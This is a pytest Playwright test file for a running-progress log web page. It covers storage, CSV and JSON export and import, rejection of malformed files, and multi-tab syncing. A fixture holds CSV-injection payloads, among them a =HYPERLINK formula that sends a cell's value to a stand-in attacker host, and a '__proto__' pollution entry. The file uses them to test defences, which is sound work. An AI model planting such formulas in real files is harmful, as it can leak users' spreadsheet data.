"""The progress log on a phone: kept in the browser, exported and imported whole, and never damaged by a bad file."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.browser.pages import PAGES, VIEWPORTS, Visit, screenshot
from tests.site.built import PROJECT

pytestmark = pytest.mark.browser

PHONE = VIEWPORTS[1]
LOG = PAGES["log"]
KEY = "stride1:log"
CSV_HEADER = "date,routine,stride_length,cadence_spm,effort,notes"


def add_entry(page: Page, date: str, routine: str = "", stride: str = "", cadence: str = "", effort: str = "",
              notes: str = "") -> None:
    page.fill("#log-date", date)
    page.fill("#log-routine", routine)
    page.fill("#log-stride", stride)
    page.fill("#log-cadence", cadence)
    page.select_option("#log-effort", effort)
    page.fill("#log-notes", notes)
    page.get_by_role("button", name="Add to the log").click()
    expect(page.locator(".log-status")).to_have_text(f"Added the entry of {date}.")


def stored(page: Page) -> str | None:
    return page.evaluate("(key) => localStorage.getItem(key)", KEY)


def export(page: Page, kind: str, tmp_path: Path) -> bytes:
    with page.expect_download() as download:
        page.get_by_role("button", name=f"Export {kind}").click()
    path = tmp_path / download.value.suggested_filename
    download.value.save_as(path)
    return path.read_bytes()


def import_file(page: Page, name: str, content: bytes) -> None:
    mime = "application/json" if name.endswith(".json") else "text/csv"
    page.set_input_files("#log-import", files=[{"name": name, "mimeType": mime, "buffer": content}])


def dates_shown(page: Page) -> list[str]:
    return page.locator(".entries li strong").all_inner_texts()


@pytest.fixture
def logged(visit: Callable[..., Visit]) -> Page:
    """The log page with three entries, one of each shape: full, counted only, notes with commas, quotes and a line break."""
    page = visit(LOG, PHONE).page
    add_entry(page, "2025-07-12", "5K easy run, beginner", "64 steps over my stretch", "164", "6", "Stiff hips")
    add_entry(page, "2025-07-19", "5K workout, experienced", "61 steps", "170", "4",
              'Calves "tight" at first,\nfine after the strides')
    add_entry(page, "2025-07-15", cadence="168")
    return page


def test_entries_are_listed_newest_first_and_survive_a_reload(logged: Page) -> None:
    assert dates_shown(logged) == ["2025-07-19", "2025-07-15", "2025-07-12"]
    logged.reload()
    assert dates_shown(logged) == ["2025-07-19", "2025-07-15", "2025-07-12"]
    expect(logged.locator(".entries li").first).to_contain_text('Calves "tight" at first,')
    # The trend: a line for cadence (three points) and one for effort (two), and words for both.
    assert logged.locator(".trend polyline").count() == 2
    expect(logged.locator(".trend figcaption")).to_contain_text("cadence: 164 to 170 steps per minute")
    expect(logged.locator(".trend figcaption")).to_contain_text("effort: 6 to 4 of 10")


@pytest.mark.parametrize("kind", ["JSON", "CSV"])
def test_log_exports_and_imports_back_identical(logged: Page, tmp_path: Path, kind: str) -> None:
    before = stored(logged)
    exported = export(logged, kind, tmp_path)
    if kind == "CSV":
        assert exported.decode("utf-8").splitlines()[0] == CSV_HEADER
    else:
        assert len(json.loads(exported)["entries"]) == 3
    logged.evaluate("() => localStorage.clear()")
    logged.reload()
    assert dates_shown(logged) == []
    import_file(logged, f"stride-prep-log.{kind.lower()}", exported)
    expect(logged.locator(".log-status")).to_contain_text("Imported 3 entries")
    assert stored(logged) == before
    assert export(logged, kind, tmp_path) == exported
    # Importing the same file again adds nothing twice.
    import_file(logged, f"stride-prep-log.{kind.lower()}", exported)
    expect(logged.locator(".log-status")).to_contain_text("Imported 0 entries")
    assert stored(logged) == before


MALFORMED = {
    "not-json.json": (b'{"format": "stride-prep-log", "version": 1, "entries": [', "it is not valid JSON"),
    "other-app.json": (b'{"entries": []}', "it is not a Stride Prep log (the JSON this page exports)"),
    "bad-effort.json": (b'{"format": "stride-prep-log", "version": 1, "entries": [{"date": "2025-07-20", "effort": 11}]}',
                        'entry 1: effort must be a whole number from 1 to 10, not "11"'),
    "extra-field.json": (b'{"format": "stride-prep-log", "version": 1, "entries": [{"date": "2025-07-20", "pace": 5}]}',
                         'entry 1: "pace" is not a field of the log'),
    "no-header.csv": (b"2025-07-20,,,,,\r\n", "it is not a Stride Prep log: the first line must be " + CSV_HEADER),
    "bad-date.csv": (f"{CSV_HEADER}\r\n2025-07-20,,,170,5,\r\n2025-02-30,,,170,5,\r\n".encode(),
                     'entry 2: the date must be a day written like 2025-07-19, not "2025-02-30"'),
    "short-row.csv": (f"{CSV_HEADER}\r\n2025-07-20,5K,62\r\n".encode(), "entry 1: 3 fields, not 6"),
    "open-quote.csv": (f'{CSV_HEADER}\r\n2025-07-20,,,170,5,"never closed\r\n'.encode(), "a quoted field is never closed"),
    "spreadsheet.xlsx.csv": (b"PK\x03\x04\x14\x00\x06\x00", "it is not a Stride Prep log: the first line must be "
                             + CSV_HEADER),
    # A value is quoted in a message at most 40 characters long, and whatever its type.
    "long-date.json": (b'{"format": "stride-prep-log", "version": 1, "entries": [{"date": "' + b"2" * 10_000 + b'"}]}',
                       'entry 1: the date must be a day written like 2025-07-19, not "' + "2" * 40 + '…"'),
    "object-date.json": (b'{"format": "stride-prep-log", "version": 1, "entries": [{"date": {"toString": 1}}]}',
                         'entry 1: the date must be a day written like 2025-07-19, not "{"toString":1}"'),
    "long-field.json": (b'{"format": "stride-prep-log", "version": 1, "entries": [{"date": "2025-07-20", "'
                        + b"p" * 5000 + b'": 1}]}', 'entry 1: "' + "p" * 40 + '…" is not a field of the log'),
    "huge.csv": (b" " * (5 * 1024 * 1024 + 1), "it is over 5 MB, the most this page imports"),
}


@pytest.mark.parametrize("name", MALFORMED)
def test_a_malformed_import_is_refused_and_the_log_is_unchanged(logged: Page, name: str) -> None:
    content, reason = MALFORMED[name]
    before = stored(logged)
    import_file(logged, name, content)
    expect(logged.locator(".log-status")).to_have_text(f"Import refused: {name}: {reason}. Your log is unchanged.")
    assert stored(logged) == before
    assert dates_shown(logged) == ["2025-07-19", "2025-07-15", "2025-07-12"]


def test_an_entry_can_be_deleted(logged: Page) -> None:
    logged.get_by_role("button", name="Delete the entry of 2025-07-15").click()
    assert dates_shown(logged) == ["2025-07-19", "2025-07-12"]
    logged.reload()
    assert dates_shown(logged) == ["2025-07-19", "2025-07-12"]


def test_the_log_form_is_not_there_without_javascript(visit: Callable[..., Visit]) -> None:
    page = visit(LOG, PHONE, java_script_enabled=False).page
    assert page.locator("form, .entries").count() == 0
    expect(page.locator("table.log")).to_be_visible()


def test_with_javascript_the_phone_shows_the_log_it_keeps_and_not_the_empty_sheet(visit: Callable[..., Visit]) -> None:
    page = visit(LOG, PHONE).page
    expect(page.locator("form.log-form")).to_be_visible()
    expect(page.locator("table.log")).to_be_hidden()  # still what prints: tests/browser/test_print.py


# 03:00 on 20 July in UTC is still the 19th in Los Angeles: the date filled in is the runner's own day.
EVENING_IN_LOS_ANGELES = datetime(2025, 7, 20, 3, 0, tzinfo=UTC)


@pytest.mark.parametrize(("query", "routine"), [
    ("?routine=5k-easy-run-beginner", "5K easy run, beginner"),
    ("?routine=no-such-routine", ""),
    ("?routine=%22%5D%20*", ""),  # a slug that is not one, quotes and all: nothing filled in, nothing thrown
])
def test_the_timers_link_fills_in_today_and_that_routine(blank_page: Callable[..., Page], origin: str, query: str,
                                                         routine: str) -> None:
    page = blank_page(PHONE, timezone_id="America/Los_Angeles")
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.clock.install(time=EVENING_IN_LOS_ANGELES)
    page.goto(origin + LOG + query)
    expect(page.locator("#log-date")).to_have_value("2025-07-19")
    expect(page.locator("#log-routine")).to_have_value(routine)
    assert errors == []


def log_file(*entries: dict[str, object]) -> bytes:
    return json.dumps({"format": "stride-prep-log", "version": 1, "entries": entries}).encode()


# Cells a spreadsheet would run as a formula (OWASP, CSV injection), and cells that already
# start with apostrophes, which must come back as they were too.
FORMULAS = log_file(
    {"date": "2025-07-01", "routine": '=HYPERLINK("https://evil.example/?"&A1,"Click")', "stride": "-3 steps",
     "notes": "+44 1234"},
    {"date": "2025-07-02", "routine": "@SUM(1+1)", "stride": "'=quoted already", "notes": "\t=1+1"},
    {"date": "2025-07-03", "routine": "'plain apostrophe", "stride": "''-2", "cadence": 170, "effort": 5,
     "notes": "\r=1+1\r\nline"},
)
NEUTRALISED = [
    CSV_HEADER,
    "2025-07-03,'plain apostrophe,'''-2,170,5,\"'\r=1+1\r\nline\"",
    "2025-07-02,'@SUM(1+1),''=quoted already,,,'\t=1+1",
    '2025-07-01,"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",\'-3 steps,,,\'+44 1234',
]


def test_csv_cells_never_start_a_formula_and_import_back_unchanged(visit: Callable[..., Visit], tmp_path: Path) -> None:
    page = visit(LOG, PHONE).page
    import_file(page, "formulas.json", FORMULAS)
    expect(page.locator(".log-status")).to_contain_text("Imported 3 entries")
    before = stored(page)
    text = export(page, "CSV", tmp_path).decode("utf-8")
    assert text == "\r\n".join(NEUTRALISED) + "\r\n"
    for row in csv.reader(io.StringIO(text, newline="")):
        assert [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    page.evaluate("() => localStorage.clear()")
    page.reload()
    import_file(page, "stride-prep-log.csv", text.encode())
    expect(page.locator(".log-status")).to_contain_text("Imported 3 entries")
    assert stored(page) == before
    expect(page.locator(".entries li").last).to_contain_text('=HYPERLINK("https://evil.example/?"&A1,"Click")')


def test_a_csv_of_an_older_export_imports_its_cells_as_they_are(visit: Callable[..., Visit]) -> None:
    page = visit(LOG, PHONE).page
    import_file(page, "old.csv", f"{CSV_HEADER}\r\n2025-07-20,=1+1,-2,170,5,'x\r\n".encode())
    expect(page.locator(".log-status")).to_contain_text("Imported 1 entry")
    assert json.loads(stored(page) or "")[0] == {"date": "2025-07-20", "routine": "=1+1", "stride": "-2",
                                                  "cadence": 170, "effort": 5, "notes": "'x"}


# What an old version, another tab or an extension may leave under the log's key, and why it cannot be read.
UNREADABLE = {
    "not JSON": ("[{oops", "it is not valid JSON"),
    "a number": ("5", "it is not a list of entries"),
    "null": ("null", "it is not a list of entries"),
    "an object": ('{"entries": []}', "it is not a list of entries"),
    "huge text": ('"' + "x" * 1_000_000 + '"', "it is not a list of entries"),
    "wrong items": ('[{"date": "2025-07-19"}, 5]', "entry 2: it is not an entry"),
    "a huge list": ("[" + ",".join(['{"date": "2025-07-19"}'] * 50_000) + ", null]", "entry 50001: it is not an entry"),
    "a newer version": ('[{"date": "2025-07-19", "pace": "5:10"}]', 'entry 1: "pace" is not a field of the log'),
    "prototype": ('[{"date": "2025-07-19", "__proto__": {"notes": "x"}}]', 'entry 1: "__proto__" is not a field of the log'),
}


def unreadable_message(reason: str) -> str:
    return (f"The log kept in this browser could not be read: {reason}. It is left as it was: nothing is added"
            " to it or written over it. Save it as a file to start a new log.")


def plant_log(visit: Callable[..., Visit], value: str) -> tuple[Visit, list[str]]:
    loaded = visit(LOG, PHONE)
    errors: list[str] = []
    loaded.page.on("pageerror", lambda error: errors.append(str(error)))
    loaded.page.evaluate("([key, value]) => localStorage.setItem(key, value)", [KEY, value])
    loaded.page.reload()
    return loaded, errors


@pytest.mark.parametrize("name", UNREADABLE)
def test_an_unreadable_log_is_kept_untouched_and_the_page_says_so(visit: Callable[..., Visit], name: str,
                                                                  tmp_path: Path) -> None:
    value, reason = UNREADABLE[name]
    loaded, errors = plant_log(visit, value)
    page = loaded.page
    status = page.locator(".log-status")
    # Said where the entries would be, not "No entries yet."
    expect(page.locator(".log-empty")).to_have_text(unreadable_message(reason))
    assert dates_shown(page) == []
    # Neither a new entry nor an import writes over it, and an export does not pass an empty log for it.
    page.fill("#log-date", "2025-07-20")
    page.get_by_role("button", name="Add to the log").click()
    expect(status).to_have_text(unreadable_message(reason))
    page.evaluate("() => { document.querySelector('.log-status').textContent = ''; }")
    import_file(page, "formulas.json", FORMULAS)
    expect(status).to_have_text(unreadable_message(reason))
    page.evaluate("() => { document.querySelector('.log-status').textContent = ''; }")
    page.get_by_role("button", name="Export CSV").click()
    expect(status).to_have_text(unreadable_message(reason))
    page.reload()
    assert stored(page) == value
    expect(page.locator(".log-empty")).to_have_text(unreadable_message(reason))
    assert errors == []
    if name == "not JSON":
        screenshot(loaded, "log-unreadable")
    # Saved as a file, it is set aside (kept in this browser too, never read) and a new log begins.
    with page.expect_download() as download:
        page.get_by_role("button", name="Save it as a file and start a new log").click()
    assert download.value.suggested_filename == "stride-prep-log-unreadable.txt"
    download.value.save_as(tmp_path / "saved.txt")
    assert (tmp_path / "saved.txt").read_text(encoding="utf-8") == value
    expect(status).to_have_text("Saved the unreadable log as stride-prep-log-unreadable.txt; a copy stays in this"
                                " browser too. This is a new log.")
    expect(page.get_by_role("button", name="Save it as a file and start a new log")).to_be_hidden()
    kept = page.evaluate("() => Object.keys(localStorage).filter((name) => name.startsWith('stride1:log:'))")
    assert len(kept) == 1 and page.evaluate("(name) => localStorage.getItem(name)", kept[0]) == value
    assert stored(page) is None
    expect(page.locator(".log-empty")).to_have_text("No entries yet.")
    add_entry(page, "2025-07-20")
    assert dates_shown(page) == ["2025-07-20"]
    assert errors == []


def test_a_log_made_readable_in_another_tab_is_shown(visit: Callable[..., Visit], origin: str) -> None:
    loaded, errors = plant_log(visit, "5")
    other = loaded.page.context.new_page()
    other.goto(origin + LOG)
    other.evaluate("([key]) => localStorage.setItem(key, '[{\"date\": \"2025-07-18\"}]')", [KEY])
    expect(loaded.page.locator(".entries li strong")).to_have_text(["2025-07-18"])
    expect(loaded.page.get_by_role("button", name="Save it as a file and start a new log")).to_be_hidden()
    expect(loaded.page.locator(".log-empty")).to_be_hidden()
    assert errors == []


def test_entries_added_in_two_tabs_are_all_kept(logged: Page, origin: str) -> None:
    other = logged.context.new_page()
    other.goto(origin + LOG)
    add_entry(other, "2025-07-21")
    # The other tab's entry shows here at once, and an entry added here does not write it away.
    expect(logged.locator(".entries li strong")).to_have_text(["2025-07-21", "2025-07-19", "2025-07-15", "2025-07-12"])
    add_entry(logged, "2025-07-22")
    expect(other.locator(".entries li strong")).to_have_text(
        ["2025-07-22", "2025-07-21", "2025-07-19", "2025-07-15", "2025-07-12"])
    assert [entry["date"] for entry in json.loads(stored(logged) or "")] == [
        "2025-07-22", "2025-07-21", "2025-07-19", "2025-07-15", "2025-07-12"]
    other.get_by_role("button", name="Delete the entry of 2025-07-15").click()
    expect(logged.locator(".entries li strong")).to_have_text(["2025-07-22", "2025-07-21", "2025-07-19", "2025-07-12"])
    logged.get_by_role("button", name="Delete the entry of 2025-07-21").click()
    assert [entry["date"] for entry in json.loads(stored(other) or "")] == ["2025-07-22", "2025-07-19", "2025-07-12"]


def test_the_trend_is_drawn_with_no_markup_from_the_scripts(logged: Page) -> None:
    points = logged.locator(".trend polyline").first.get_attribute("points") or ""
    assert len(points.split()) == 3
    for script in ("log.js", "routine.js", "site.js"):
        source = (PROJECT / "assets" / "js" / script).read_text(encoding="utf-8")
        assert "innerHTML" not in source and "insertAdjacentHTML" not in source, f"{script} writes markup"
